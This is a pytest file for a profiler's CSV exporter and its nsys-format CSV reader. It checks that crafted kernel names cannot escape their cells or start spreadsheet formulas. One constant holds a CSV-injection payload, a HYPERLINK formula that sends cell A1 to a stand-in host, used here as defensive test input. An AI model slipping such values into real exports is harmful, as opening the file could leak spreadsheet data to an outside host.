"""Hostile outputs and inputs at the edges of a run: CSV cells that try to leave their cell,
output paths that are devices or FIFOs, a program that removes its working directory or stops
itself, a token file anyone can read. Each test runs the real command (a subprocess) or the
real writer and reader."""
from __future__ import annotations

import csv
import importlib.util
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tuiprof.export.check_nsys import read_nsys_csv

from .conftest import REPO, cli_env

# a kernel name that closes its cell and opens a formula in the next one when quotes inside a
# cell are not doubled
BREAKOUT = 'gemm",=HYPERLINK("http://x/?"&A1;"click"),"'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cli(*args: str, cwd: Path, timeout: float = 180, **env: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "tuiprof", *args], cwd=cwd, capture_output=True,
                          text=True, timeout=timeout, env=cli_env(**env))


def _hostile():
    spec = importlib.util.spec_from_file_location("tuiprof_hostile", REPO / "tests" / "hostile.py")
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


def _number(cell: str) -> bool:
    try:
        float(cell.replace(",", ""))
        return True
    except ValueError:
        return False


def _assert_no_formula(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for cell in row:
            assert not (cell.startswith(FORMULA_START) and not _number(cell)), (where, cell)


# ------------------------------------------------------------------ CSV cells stay cells
def test_a_quote_in_a_kernel_name_cannot_open_a_formula_cell_in_the_nsys_csvs(eager_path,
                                                                            tmp_path):
    snap = _hostile().write_hostile_snapshot(eager_path, tmp_path / "breakout.json",
                                             catalogue=(BREAKOUT, "plain", "x,y", '"q"'))
    proc = _cli("export", str(snap), "--nsys", str(tmp_path / "nsys"), cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr[-2000:]
    kern = tmp_path / "nsys" / "tuiprof_cuda_gpu_kern_sum.csv"
    rows = list(csv.reader(kern.read_text().splitlines()))
    header = rows[0]
    assert header[-1] == "Name" and len(rows) > 1
    assert all(len(r) == len(header) for r in rows), [r for r in rows if len(r) != len(header)]
    _assert_no_formula(rows, kern.name)
    names = {r[-1] for r in rows[1:]}
    assert BREAKOUT in names, names           # the name back whole, as one cell
    assert "x,y" in names and '"q"' in names
    for p in sorted((tmp_path / "nsys").glob("*.csv")):
        got = list(csv.reader(p.read_text().splitlines()))
        assert all(len(r) == len(got[0]) for r in got), p.name
        _assert_no_formula(got, p.name)
        # the project's own nsys-format reader (check_nsys) reads the same cells
        h, body = read_nsys_csv(p)
        assert [h, *body] == got, p.name


def test_the_nsys_reader_still_reads_nsys_own_dialect(tmp_path):
    """nsys quotes a last column with commas and never doubles quotes inside it."""
    p = tmp_path / "nsys_kern.csv"
    p.write_text('Time (%),Total Time (ns),Name\n'
                 '60.0,600,"void f<(char)"a", 2>(int)"\n'
                 '40.0,400,"q"x\n')
    header, rows = read_nsys_csv(p)
    assert header == ["Time (%)", "Total Time (ns)", "Name"]
    assert rows == [["60.0", "600", 'void f<(char)"a", 2>(int)'], ["40.0", "400", '"q"x']]
